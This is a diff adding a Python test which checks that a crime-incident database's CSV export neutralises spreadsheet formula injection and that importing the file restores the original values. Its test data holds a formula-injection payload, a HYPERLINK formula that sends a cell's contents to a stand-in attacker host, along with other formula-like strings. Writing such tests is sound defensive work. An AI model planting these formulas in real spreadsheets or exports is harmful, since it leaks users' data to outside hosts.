@@ -3,6 +3,7 @@ spreadsheet filled by hand imports too, with its bad rows reported by rule."""
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from pathlib import Path
@@ -346,3 +347,36 @@ def test_the_command_refuses_a_file_with_an_unknown_column_and_stores_nothing(
     with Session(engine) as s:
         assert s.scalar(select(func.count()).select_from(Incident)) == 0
     engine.dispose()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver")'
+
+
+def test_a_csv_export_quotes_text_a_spreadsheet_would_run_and_imports_it_back_as_typed(
+    tmp_path: Path, db, session: Session, other_agency: Agency
+) -> None:  # type: ignore[no-untyped-def]
+    typed = homicide(
+        reference="F-1", narrative=FORMULA, latitude=-31.5, longitude=-106.4245,
+        occurred_from="2025-06-01",
+        persons=[{"role": "victim", "surnames": "@SUM(1+1)", "given_names": "+1", "age": 30}],
+        documents=[{"status": "stolen", "type": "passport", "number": "-2+3"}],
+        firearms=[{"status": "seized", "make": "'quoted"}],
+    )  # fmt: skip
+    store(db, session, [typed])
+    path = export(session, tmp_path / "out.csv")
+    with path.open(newline="", encoding="utf-8") as f:
+        (row,) = csv.DictReader(f)
+    assert row["narrative"] == "'" + FORMULA
+    assert (row["person1_surnames"], row["person1_given_names"]) == ("'@SUM(1+1)", "'+1")
+    assert row["document1_number"] == "'-2+3"
+    assert row["firearm1_make"] == "''quoted"  # so that the import gives back 'quoted
+    # Numbers and dates are written as they are: a negative coordinate is not text.
+    assert (row["latitude"], row["longitude"]) == ("-31.5", "-106.4245")
+    assert (row["occurred_from"], row["person1_age"]) == ("2025-06-01", "30")
+    assert row["reported_at"].startswith("2026-11-20T23:40")
+    report = import_csv(db, session, path, OTHER)
+    assert (report.stored, report.rejected) == (1, [])
+    back = recorded(session, OTHER)["F-1"]
+    assert back["narrative"] == FORMULA and back["documents"][0]["number"] == "-2+3"
+    assert back["persons"][0]["surnames"] == "@SUM(1+1)"
+    assert back["firearms"][0]["make"] == "'quoted"
